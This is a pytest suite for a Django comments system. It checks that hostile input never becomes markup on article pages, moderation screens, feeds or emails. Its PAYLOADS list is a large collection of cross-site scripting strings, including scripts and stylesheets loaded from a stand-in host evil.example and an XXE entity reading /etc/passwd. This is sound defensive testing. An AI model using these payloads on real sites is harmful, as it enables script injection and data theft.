"""Words that would like to be markup, posted as readers post, looked for wherever they appear.

Each page is read by an HTML parser, twice: with harmless words, and with hostile ones in the same
places. The hostile may bring no element and no attribute that the harmless did not.
"""

from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from django.core import mail
from django.test import Client
from django.utils import timezone

from comments import appeal, edit, letters, moderate, text
from comments.models import Comment, Commenter
from comments.report import report
from postbox.outbox import deliver_due
from tests.comments.conftest import SAME_ORIGIN, fields, post_url
from tests.factories import make_article, make_comment

EVENTS = "onerror onload onclick onmouseover onfocus ontoggle onbegin onanimationstart".split()
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://a.example",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "[x](javascript:alert(1))",
    "<https://a.example/onmouseover=alert(1)>",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/><script>alert(1)</script>",
    "https://a.example/`><img src=x onerror=alert(1)>",
    "https://a.example/&quot;onmouseover=&quot;alert(1)",
    "https://javascript:alert(1)@a.example/",
    "*https://a.example/*<b onclick=alert(1)>*",
    "*<i onclick=alert(1)>*",
    "`<img src=x onerror=alert(1)>`",
    "`</code><script>alert(1)</script>`",
    "> </blockquote><script>alert(1)</script>",
    "- </li></ul><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<style>*{background:url(//evil.example)}</style>",
    "<b style=position:fixed>x</b>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "{{ 7|add:7 }}{% now 'Y' %}{# x #}",
    "{% load static %}{% include 'newsroom/base.html' %}",
    "${alert(1)}#{alert(1)}",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2028<script>alert(1)</script>\u2029",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x1b$)B<script>alert(1)</script>",
    "<x onclick=alert(1) tabindex=0 autofocus>x</x>",
    "x onmouseover=alert(1) style=x",
]
# Each of them leaves something: a tag, an attribute by one of three marks, a comment, a script.
NAMES = (
    "<script>alert(1)</script>",
    "\"'`><img src=x onerror=alert(1)>",
    "\"onmouseover='alert(1)'",
    '\'onmouseover="alert(1)"',
    "x onmouseover=alert(1) style=x",
    "</title></textarea></style></script><svg onload=alert(1)>",
    "--!><svg onload=alert(1)><!--",
    "&quot;&#39;&gt;&lt;svg onload=alert(1)&gt;",
)
# What comments/text.py may make of plain words, and nothing else.
OF_TEXT = {
    *((tag, ()) for tag in ("p", "br", "em", "blockquote", "ul", "li", "code")),
    ("a", ("href", "rel")),
}
ADDRESSES = (
    '"<script>alert(1)</script>"@example.com',
    "\"'onmouseover='alert(1)\"@example.com",
)
PER_ARTICLE = 25  # on one page of threads


class Elements(HTMLParser):
    """The elements of a page, each with the names of its attributes; and where they lead."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.kinds, self.targets, self.words = set(), set(), []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.kinds.add((tag, tuple(sorted(name for name, _ in attrs))))
        leads = [value or "" for name, value in attrs if name in ("href", "src", "action")]
        self.targets |= {value.strip().partition(":")[0].lower() for value in leads if ":" in value}

    def handle_data(self, data):
        self.words.append(data)

    def text(self):
        return " ".join("".join(self.words).split())


def test_the_list_is_long_enough():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60
    assert all(any(event in each for each in PAYLOADS) for event in EVENTS[:3])


def test_the_parser_sees_what_a_browser_would():
    """Or every test here would pass whatever the pages held."""
    seen = [Elements(f"<p>{payload}</p>").kinds for payload in PAYLOADS]
    assert sum(bool(kinds - OF_TEXT) for kinds in seen) > 45
    assert "javascript" in Elements("<a href=JavaScript:x>").targets


def say_all(article, words):
    """All ``words`` posted under ``article`` as text and as name, each by a reader of their own."""
    said = []
    for number, (name, body) in enumerate(words):
        reader = Client(REMOTE_ADDR=f"198.{number}.100.7")
        given = fields(display_name=name, body=body, nudged="yes")
        answer = reader.post(post_url(article), given, headers=SAME_ORIGIN)
        assert answer.status_code == 303, body
        pk = int(answer["Location"].split("/")[2])
        said.append((reader, Comment.objects.get(pk=pk)))
    return said


def harmless(count):
    """As many comments that get every mark a hostile one may get from the checks."""
    body = "An alert: https://a.example https://b.example https://c.example"
    return [("Editor", f"{body} {number}") for number in range(count)]


def hostile():
    return [(payload.replace("\n", " ")[:80], payload) for payload in PAYLOADS]


def html_of(response):
    assert response.status_code in (200, 422)
    return response.content.decode()


def assert_calm(hostile_html, harmless_html, where):
    """Nothing stands in the one that does not stand in the other, but what text.py may make."""
    known, found = Elements(harmless_html), Elements(hostile_html)
    assert found.kinds - known.kinds - OF_TEXT == set(), where
    assert found.targets - known.targets <= {"https", "http"}, where
    return found.text()


def batches(rows):
    return [rows[start : start + PER_ARTICLE] for start in range(0, len(rows), PER_ARTICLE)]


def pages_that_list(article, first, desk):
    """Names and HTML of the pages that show many comments of an article."""
    url, public = article.get_absolute_url(), Client()
    yield "page", html_of(public.get(url))
    yield "newest", html_of(public.get(f"{url}?order=newest"))
    yield "best", html_of(public.get(f"{url}?order=best"))
    yield "desk of the thread", html_of(desk.get(f"/admin/comments/comment/thread/{article.pk}/"))
    yield "queue of published", html_of(desk.get("/admin/comments/comment/?tab=published"))
    yield "events", html_of(desk.get("/admin/comments/moderationevent/"))
    yield "word rule", html_of(desk.post("/admin/comments/wordrule/add/", TRIAL))
    yield "replies", html_of(public.get(f"/comments/{first.pk}/replies/"))


def pages_of_one(reader, comment):
    """Names and HTML of the small pages about one comment."""
    for name in ("mine", "edit", "withdraw", "reply", "report", "recommend", "replies"):
        yield name, html_of(reader.get(f"/comments/{comment.pk}/{name}/"))


WHOLE = ("queue", "page", "newest", "best")
TRIAL = {"words": "alert", "list": "hold", "note": "", "_try": "Try it"}


def world_of(words, desk, moderator):
    """An article with ``words`` as its comments, and the pages that show them, by name."""
    article = make_article()
    comments = [comment for _, comment in say_all(article, words)]
    pages = {"queue": html_of(desk.get("/admin/comments/comment/"))}
    for comment in comments:
        moderate.approve(comment, by=moderator)
    for comment in comments[:4]:
        make_comment(article, parent=comments[0], body=comment.body, status="approved")
    assert len(entries_of_feed(article)) == len(comments) + len(comments[:4])
    return pages | dict(pages_that_list(article, comments[0], desk))


def test_nothing_posted_becomes_markup_where_many_comments_stand(login, moderator, chief):
    make_article()  # every article's page leads to this one
    desk = login(chief)
    calm = world_of(harmless(PER_ARTICLE), desk, moderator)
    for words in batches(hostile()):
        Comment.objects.update(status="rejected")  # those before are out of the way
        whole = [shown_of(body) for _, body in words if body.isascii() and body.isprintable()]
        for where, html in world_of(words, desk, moderator).items():
            said = assert_calm(html, calm[where], where)
            if where in WHOLE:
                assert [each for each in whole if each not in said] == [], where


def shown_of(body):
    """What a reader sees of ``body``: without the signs that make emphasis, code and lists."""
    return " ".join(Elements(text.html_of(body)).text().split())


def entries_of_feed(article):
    """The entries of the feed, of which the HTML inside is calm, too."""
    feed = ElementTree.fromstring(Client().get(f"{article.get_absolute_url()}feed/").content)
    entries = feed.findall(f"{ATOM}entry")
    for entry in entries:
        inside = Elements(entry.find(f"{ATOM}summary").text)
        assert inside.kinds <= OF_TEXT and inside.targets <= {"https", "http"}
        assert {each.tag.removeprefix(ATOM) for each in entry.iter()} <= OF_ENTRY
    return entries


ATOM = "{http://www.w3.org/2005/Atom}"
OF_ENTRY = {*("entry", "title", "link", "id", "summary", "author", "name"), "published", "updated"}


def test_nothing_posted_becomes_markup_on_the_pages_about_one_comment(article, moderator):
    ((reader, comment),) = say_all(article, harmless(1))
    moderate.approve(comment, by=moderator)
    make_comment(article, parent=comment, status="approved")
    calm = dict(pages_of_one(reader, comment))
    ((reader, comment),) = say_all(article, [("Editor", "\n\n".join(PAYLOADS))])
    moderate.approve(comment, by=moderator)
    make_comment(article, parent=comment, status="approved")
    for name in NAMES:
        Comment.objects.filter(pk=comment.pk).update(display_name=name)
        for where, html in pages_of_one(reader, comment):
            assert_calm(html, calm[where], (where, name))


def letters_about(words, moderator):
    """What is mailed when each of ``words`` answers somebody, and when each is turned down."""
    article = make_article()
    for number, (name, body) in enumerate(words):
        name, body = text.cleaned(name), text.cleaned(body)
        mine = Commenter.objects.create(
            email=f"kaia-{number}@example.com", email_confirmed_at=timezone.now()
        )
        asked = make_comment(article, status="approved", commenter=mine, notify=True)
        answer = make_comment(article, parent=asked, display_name=name, body=body)
        moderate.approve(answer, by=moderator)
        refused = make_comment(article, commenter=mine, display_name=name, body=body)
        moderate.reject(refused, by=moderator, reason="It is off the subject")
    mail.outbox.clear()
    while deliver_due(at=timezone.now() + letters.UNDO_FOR * 2):
        pass
    return list(mail.outbox)


def test_nothing_posted_becomes_markup_in_a_mail(moderator):
    calm = letters_about(harmless(1), moderator)
    known = set().union(*(Elements(html_part(each)).kinds for each in calm))
    sent = letters_about(hostile(), moderator)
    assert (len(calm), len(sent)) == (2, 2 * len(PAYLOADS))
    for each in sent:
        assert Elements(html_part(each)).kinds <= known | OF_TEXT
        assert "\n" not in each.subject and each.content_subtype == "plain"


def html_part(letter):
    (part,) = letter.alternatives
    assert part.mimetype == "text/html"
    return part.content


@pytest.mark.parametrize("address", ADDRESSES)
def test_an_address_becomes_no_markup_either(client, article, address):
    given = fields(email="kaia@example.com", notify="on")
    stored = client.post(post_url(article), given, headers=SAME_ORIGIN)
    calm = html_of(client.get(stored["Location"]))
    given = fields(email=address, notify="on", body="Another text.")
    other = Client()
    answer = other.post(post_url(article), given, headers=SAME_ORIGIN)
    assert answer.status_code == 303
    assert_calm(html_of(other.get(answer["Location"])), calm, address)
    mail.outbox.clear()
    deliver_due()
    ours = next(each for each in mail.outbox if each.to == [address])
    assert "alert(1)" not in html_part(ours) + ours.subject + ours.body


def test_what_readers_say_to_moderators_becomes_no_markup(login, chief, article, moderator):
    desk, seen = login(chief), []
    for words in ("It is off the subject.", "\n".join(PAYLOADS)[:900]):
        said = make_comment(article, status="approved", published_at=timezone.now())
        report(said, reporter=f"r{said.pk}", reason="spam", words=words)
        edit.edit_comment(said, body=f"{words} And more.")
        taken = make_comment(article, status="rejected", reason="It is off the subject")
        appeal.appeal(taken, words=words)
        seen.append(
            html_of(desk.get("/admin/comments/comment/"))
            + html_of(desk.get(f"/admin/comments/comment/thread/{article.pk}/?answer={said.pk}"))
            + html_of(desk.get("/admin/comments/comment/?tab=rejected"))
        )
        Comment.objects.exclude(pk=said.pk).update(status="spam")
    assert_calm(seen[1], seen[0], "desk")
